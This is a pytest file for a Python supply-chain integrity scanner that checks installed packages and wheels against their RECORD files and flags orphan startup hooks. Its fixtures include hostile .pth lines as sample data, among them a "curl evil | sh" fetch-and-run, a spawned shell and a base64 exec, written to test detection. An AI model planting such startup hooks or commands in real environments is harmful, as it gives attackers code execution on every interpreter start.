"""Integrity rules: RECORD verification, orphan files, and wheels against their RECORD."""

from __future__ import annotations

import shutil
import sys
import zipfile
from pathlib import Path

import pytest
from deps_support import make_dist, make_wheel, site_of, wheel_members, write_zip

from chainproof.deps.files import MAX_FILE_BYTES, TreeError
from chainproof.deps.model import Finding, ScanResult, Severity
from chainproof.deps.rules import integrity, parallel, registry
from chainproof.deps.rules.integrity import (
    INTEGRITY_RULES,
    is_startup_hook,
    orphan_pth_severity,
    pth_exec_lines,
)
from chainproof.deps.scan import scan_tree
from chainproof.deps.targets.archive import open_archive
from chainproof.deps.targets.directory import DirectoryTree


def findings(root: Path) -> list[Finding]:
    result = scan_tree(DirectoryTree(root), rules=INTEGRITY_RULES)
    assert result.errors == []
    return result.findings


def wheel_findings(path: Path) -> list[Finding]:
    tree = open_archive(path)
    return scan_tree(tree, rules=INTEGRITY_RULES, fallback=tree.declared).findings


def test_registered() -> None:
    assert all(rule in registry.RULES for rule in INTEGRITY_RULES)


# --- pure judgements ---


def test_startup_hooks() -> None:
    assert is_startup_hook("x.pth")
    assert is_startup_hook("sitecustomize.py")
    assert is_startup_hook("a.start")
    assert is_startup_hook("usercustomize/__init__.py")
    assert not is_startup_hook("pkg/x.pth")
    assert not is_startup_hook("pkg/sitecustomize.py")


def test_pth_exec_lines_follow_site_rules() -> None:
    text = "/some/path\nimport os; os.system('x')\n  import indented\nimport\tsys\n#import x\nimportlib\n"
    assert pth_exec_lines(text) == [(2, "import os; os.system('x')"), (4, "import\tsys")]


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("/opt/src\n../other\n", Severity.LOW),
        ("import _virtualenv\n", Severity.LOW),
        ("import _virtualenv\nimport os; os.system('id')\n", Severity.CRITICAL),
        ("import evil\n", Severity.CRITICAL),
        ("import os;exec(__import__('base64').b64decode('cHJpbnQoMSk='))", Severity.CRITICAL),
    ],
)
def test_orphan_pth_severity(text: str, severity: Severity) -> None:
    assert orphan_pth_severity(text)[0] == severity


# --- installed environments ---


def test_clean_site_has_no_findings(site: Path) -> None:
    make_dist(
        site, "alpha", "1.0", {"alpha/__init__.py": "A = 1\n", "alpha/data.json": "{}", "alpha.pth": "/x\n"}
    )
    make_dist(site, "beta", "2.0", {"beta.py": "B = 2\n"})
    (site / "alpha" / "__pycache__").mkdir()
    (site / "alpha" / "__pycache__" / "__init__.cpython-311.pyc").write_bytes(b"\x00cache")
    assert findings(site) == []


def test_modified_installed_file_is_high(site: Path) -> None:
    make_dist(site, "alpha", "1.0", {"alpha/__init__.py": "A = 1\n", "alpha/util.py": "def f(): pass\n"})
    (site / "alpha" / "util.py").write_text("def f(): pass\nimport os; os.system('x')\n")
    (f,) = findings(site)
    assert (f.rule, f.severity, f.package, f.version, f.path) == (
        "record-mismatch",
        Severity.HIGH,
        "alpha",
        "1.0",
        "alpha/util.py",
    )
    assert "RECORD says" in f.evidence


def test_same_size_modification_is_caught_by_the_hash(site: Path) -> None:
    make_dist(site, "alpha", "1.0", {"alpha/__init__.py": "A = 1\n"})
    (site / "alpha" / "__init__.py").write_text("A = 2\n")
    (f,) = findings(site)
    assert f.rule == "record-mismatch"
    assert "sha256" in f.evidence


def test_modified_owned_pth_is_critical(site: Path) -> None:
    make_dist(site, "alpha", "1.0", {"alpha.pth": "/opt/alpha\n"})
    (site / "alpha.pth").write_text("import os; os.system('curl evil | sh')\n")
    (f,) = findings(site)
    assert (f.rule, f.severity) == ("record-mismatch", Severity.CRITICAL)


def test_missing_files(site: Path) -> None:
    make_dist(site, "alpha", "1.0", {"alpha/__init__.py": "", "alpha/data.txt": "d"})
    di = site / "alpha-1.0.dist-info"
    with (di / "RECORD").open("a") as f:
        f.write("alpha/__pycache__/__init__.cpython-311.pyc,,\n")
    (site / "alpha" / "__init__.py").unlink()
    (site / "alpha" / "data.txt").unlink()
    got = {f.path: (f.rule, f.severity) for f in findings(site)}
    assert got == {
        "alpha/__init__.py": ("record-missing", Severity.MEDIUM),
        "alpha/data.txt": ("record-missing", Severity.LOW),
    }


class _PartlyUnreadable(DirectoryTree):
    def read(self, path: str, limit: int = MAX_FILE_BYTES) -> bytes:
        if path.endswith("locked.py"):
            raise TreeError(f"{path}: cannot read (Permission denied)")
        return super().read(path, limit)


def test_an_unreadable_file_does_not_stop_verification(site: Path) -> None:
    make_dist(site, "alpha", "1.0", {"alpha/a_locked.py": "", "alpha/b_changed.py": "x"})
    (site / "alpha" / "b_changed.py").write_text("y")
    result = scan_tree(_PartlyUnreadable(site), rules=INTEGRITY_RULES)
    assert [f.path for f in result.findings] == ["alpha/b_changed.py"]
    assert len(result.errors) == 1
    assert "1 installed file could not be read to verify them: alpha/a_locked.py" in result.errors[0]


def _threaded_and_serial(
    site: Path, monkeypatch: pytest.MonkeyPatch, tree: type[DirectoryTree] = DirectoryTree
) -> tuple[ScanResult, ScanResult]:
    monkeypatch.setattr(integrity, "HASH_BATCH", 2)  # many batches, so several threads take part
    monkeypatch.setenv(parallel.JOBS_ENV, "3")
    threaded = scan_tree(tree(site), rules=INTEGRITY_RULES)
    monkeypatch.setenv(parallel.JOBS_ENV, "1")
    return threaded, scan_tree(tree(site), rules=INTEGRITY_RULES)


def test_verification_on_threads_matches_the_serial_one(site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    files = {f"alpha/m{i:02}.py": f"M = {i}\n" for i in range(20)}
    make_dist(site, "alpha", "1.0", {**files, "alpha/z_locked.py": "", "alpha.pth": "/opt\n"})
    for changed in ("alpha/m03.py", "alpha/m17.py", "alpha.pth"):
        (site / changed).write_text("import os; os.system('x')\n")
    (site / "alpha" / "m09.py").unlink()
    threaded, serial = _threaded_and_serial(site, monkeypatch, _PartlyUnreadable)
    assert (threaded.findings, threaded.errors) == (serial.findings, serial.errors)
    assert {(f.rule, f.path) for f in threaded.findings} == {
        ("record-mismatch", "alpha/m03.py"),
        ("record-mismatch", "alpha/m17.py"),
        ("record-mismatch", "alpha.pth"),
        ("record-missing", "alpha/m09.py"),
    }
    assert "alpha/z_locked.py" in threaded.errors[0]


class _BreaksOnOne(DirectoryTree):
    def read(self, path: str, limit: int = MAX_FILE_BYTES) -> bytes:
        if path.endswith("b_breaks.py"):
            raise ValueError("a defect met on this file")
        return super().read(path, limit)


def test_a_failure_on_one_file_keeps_what_was_found_before_it(
    site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_dist(site, "alpha", "1.0", {"alpha/a_changed.py": "x", "alpha/b_breaks.py": "", "alpha/c.py": ""})
    (site / "alpha" / "a_changed.py").write_text("y")
    threaded, serial = _threaded_and_serial(site, monkeypatch, _BreaksOnOne)
    for result in (threaded, serial):
        assert [f.path for f in result.findings] == ["alpha/a_changed.py"]
        assert len(result.errors) == 1
        assert "check_installed_record failed: ValueError: a defect met on this file" in result.errors[0]


def test_a_path_shared_by_two_distributions_matches_either(site: Path) -> None:
    make_dist(site, "ns-one", "1", {"ns/__init__.py": "# one\n", "ns/one.py": ""})
    make_dist(site, "ns-two", "1", {"ns/__init__.py": "# two\n", "ns/two.py": ""})  # overwrote it
    assert findings(site) == []
    (site / "ns" / "__init__.py").write_text("# neither\n")
    assert [f.rule for f in findings(site)] == ["record-mismatch"]


def test_orphans(site: Path) -> None:
    make_dist(
        site, "alpha", "1.0", {"alpha/__init__.py": "", "alpha/__pycache__/__init__.cpython-311.pyc": b"c"}
    )
    planted = {
        "evil_init.pth": "import os, subprocess; subprocess.Popen(['sh'])\n",
        "paths.pth": "/opt/somewhere\n",
        "_virtualenv.pth": "import _virtualenv\n",
        "_virtualenv.py": '"""Patches that are applied at runtime to the virtual environment."""\n',
        "sitecustomize.py": "import os\n",
        "loose.py": "x = 1\n",
        "alpha/extra.py": "x = 2\n",
        "alpha/notes.txt": "n",
        "__pycache__/loose.cpython-311.pyc": b"cache of loose.py",
        "__pycache__/ghost.cpython-311.pyc": b"no source anywhere",
        "README.txt": "This directory exists so that 3rd party packages can be installed here.\n",
    }
    for rel, data in planted.items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_bytes(data.encode() if isinstance(data, str) else data)
    got = {f.path: f.severity for f in findings(site)}
    assert got == {
        "evil_init.pth": Severity.CRITICAL,
        "sitecustomize.py": Severity.CRITICAL,
        "paths.pth": Severity.LOW,
        "_virtualenv.pth": Severity.LOW,
        "_virtualenv.py": Severity.LOW,
        "loose.py": Severity.MEDIUM,
        "alpha/extra.py": Severity.MEDIUM,
        "alpha/notes.txt": Severity.LOW,
        "__pycache__/ghost.cpython-311.pyc": Severity.MEDIUM,
    }
    evil = next(f for f in findings(site) if f.path == "evil_init.pth")
    assert evil.line == 1
    assert evil.evidence.startswith("import os, subprocess")
    assert evil.package is None
    assert evil.rule == "orphan-file"


def test_unowned_directory_is_one_finding(site: Path) -> None:
    for i in range(30):
        (site / "dropped" / f"m{i}.py").parent.mkdir(parents=True, exist_ok=True)
        (site / "dropped" / f"m{i}.py").write_text("")
    (site / "dropped" / "data.bin").write_bytes(b"x")
    (f,) = findings(site)
    assert (f.path, f.severity) == ("dropped/", Severity.MEDIUM)
    assert "31 files" in f.message


def test_orphan_startup_hook_link(site: Path, tmp_path: Path) -> None:
    (tmp_path / "payload.pth").write_text("import os\n")
    (site / "linked.pth").symlink_to(tmp_path / "payload.pth")
    (f,) = findings(site)
    assert (f.path, f.severity) == ("linked.pth", Severity.HIGH)
    assert str(tmp_path) in f.evidence


def test_fresh_venv_is_clean(fresh_venv: Path) -> None:
    got = findings(site_of(fresh_venv))
    assert got == [], [(f.rule, f.path, f.message) for f in got]


def test_this_project_environment_has_no_high_findings() -> None:
    # Under pytest this is the project's own .venv: real packages, an editable install, pip.
    site = next(Path(p) for p in sys.path if p.endswith("site-packages") and Path(p).is_dir())
    high = [f for f in findings(site) if f.severity >= Severity.HIGH]
    assert high == []


def test_planted_copy_of_a_fresh_venv_is_caught(fresh_venv: Path, tmp_path: Path) -> None:
    copy = tmp_path / "venv"
    shutil.copytree(fresh_venv, copy, symlinks=True)
    sp = site_of(copy)
    target = next(p for p in sorted((sp / "pip").rglob("*.py")) if p.stat().st_size > 100)
    target.write_bytes(target.read_bytes() + b"\nimport os\n")
    (sp / "zz_hook.pth").write_text("import os; exec('print(1)')\n")
    got = {(f.rule, f.severity) for f in findings(sp)}
    assert ("record-mismatch", Severity.HIGH) in got
    assert ("orphan-file", Severity.CRITICAL) in got


# --- wheels ---


def test_clean_wheel(tmp_path: Path) -> None:
    assert wheel_findings(make_wheel(tmp_path, "demo", "1.0", {"demo/__init__.py": "x = 1\n"})) == []


def test_wheel_member_not_in_record_and_tampered_member(tmp_path: Path) -> None:
    members = wheel_members("demo", "1.0", {"demo/__init__.py": "x = 1\n", "demo/gone.py": ""})
    members["demo/__init__.py"] = b"x = 2\n"
    members["demo_init.pth"] = b"import os\n"
    del members["demo/gone.py"]
    got = {
        f.path: (f.rule, f.severity)
        for f in wheel_findings(write_zip(tmp_path / "demo-1.0-py3-none-any.whl", members))
    }
    assert got == {
        "demo/__init__.py": ("record-mismatch", Severity.HIGH),
        "demo_init.pth": ("record-mismatch", Severity.HIGH),
        "demo/gone.py": ("record-missing", Severity.MEDIUM),
    }


def test_wheel_without_record(tmp_path: Path) -> None:
    members = wheel_members("demo", "1.0", {"demo/__init__.py": ""})
    del members["demo-1.0.dist-info/RECORD"]
    (f,) = wheel_findings(write_zip(tmp_path / "demo-1.0-py3-none-any.whl", members))
    assert (f.rule, f.severity) == ("record-missing", Severity.MEDIUM)


def test_integrity_rules_ignore_other_kinds(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "demo", "1.0", {"stray.pth": "import os\n"})
    with zipfile.ZipFile(wheel) as zf:
        assert "stray.pth" in zf.namelist()
    # In a wheel, every member is owned by the wheel: no orphan findings, RECORD matches.
    assert wheel_findings(wheel) == []
